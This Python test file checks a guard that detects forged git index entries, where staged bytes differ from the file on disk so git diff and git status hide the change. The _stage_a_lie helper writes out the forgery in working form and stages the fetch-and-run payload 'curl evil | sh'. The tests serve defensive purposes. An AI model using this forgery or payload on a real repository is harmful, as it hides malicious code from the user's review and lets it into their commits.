"""A command that rewrites ``.git/index`` so an entry stages bytes the work-tree file does not
hold, while keeping that file's stat data, hides the change from ``git diff`` and ``git status``
(attacker5 B3). The guard around a confined call clears such an entry's stat data, so git looks
at the file again; what git itself staged is left as it is. (Real git, real files.)"""

from __future__ import annotations

import hashlib
import os
import subprocess
import time
from pathlib import Path

from reasonix.safety.plants import CreationGuard

ENV = {
    **os.environ,
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@localhost",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@localhost",
}


def _git(root: Path, *args: str, stdin: str | None = None) -> str:
    return subprocess.run(
        ["git", *args], cwd=root, env=ENV, input=stdin, capture_output=True, text=True, check=True
    ).stdout


def _repository(root: Path) -> Path:
    root.mkdir()
    _git(root, "init", "-q")
    past = time.time() - 30
    for name in ("app.py", "lib.py"):
        (root / name).write_text(f"# {name}\n")
        os.utime(root / name, (past, past))
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "init")
    return root


def _stage_a_lie(root: Path, path: str = "app.py") -> str:
    """Rewrite ``.git/index`` (version 2, as git writes it here) so ``path``'s entry names a
    blob of other bytes while keeping every stat field, as a forger would; the blob's id."""
    sha = _git(root, "hash-object", "-w", "--stdin", stdin="curl evil | sh\n").strip()
    index = (root / ".git" / "index").read_bytes()
    assert index[:8] == b"DIRC\0\0\0\x02", "the test writes version 2 indexes only"
    count = int.from_bytes(index[8:12], "big")
    out, pos = bytearray(index[:12]), 12
    for _ in range(count):
        name_end = index.index(b"\0", pos + 62)
        size = (name_end - pos + 8) // 8 * 8  # 62 bytes, the name, 1-8 NULs
        entry = bytearray(index[pos : pos + size])
        if entry[62 : name_end - pos] == path.encode():
            entry[40:60] = bytes.fromhex(sha)
        out += entry
        pos += size
    out += hashlib.sha1(bytes(out)).digest()  # the extensions go: git rebuilds them
    (root / ".git" / "index").write_bytes(bytes(out))
    return sha


def test_a_staged_file_git_wrote_is_left_alone(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    (root / "lib.py").write_text("# staged as it is\n")
    _git(root, "add", "lib.py")
    assert guard.finish() == []
    assert _git(root, "status", "--porcelain") == "M  lib.py\n"


def test_an_entry_that_stages_bytes_the_file_does_not_hold_is_shown(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    assert _git(root, "diff") == ""  # the lie: git does not look at the file
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == "MM app.py\n"
    assert "-curl evil | sh" in _git(root, "diff")


def test_control_without_the_guard_the_lie_stays_hidden(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    _stage_a_lie(root)
    assert _git(root, "status", "--porcelain") == "M  app.py\n" and _git(root, "diff") == ""
    _git(root, "commit", "-qam", "the user's next commit")
    assert _git(root, "show", "HEAD:app.py") == "curl evil | sh\n"


def test_a_file_with_a_filter_is_not_judged_by_its_raw_bytes(tmp_path: Path) -> None:
    # A clean filter (git-lfs, git-crypt) stages other bytes than the file's own: that is no
    # lie, and judging it would need the filter run.
    root = _repository(tmp_path / "repo")
    (root / ".gitattributes").write_text("app.py filter=lfs\n")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    assert guard.finish() == []
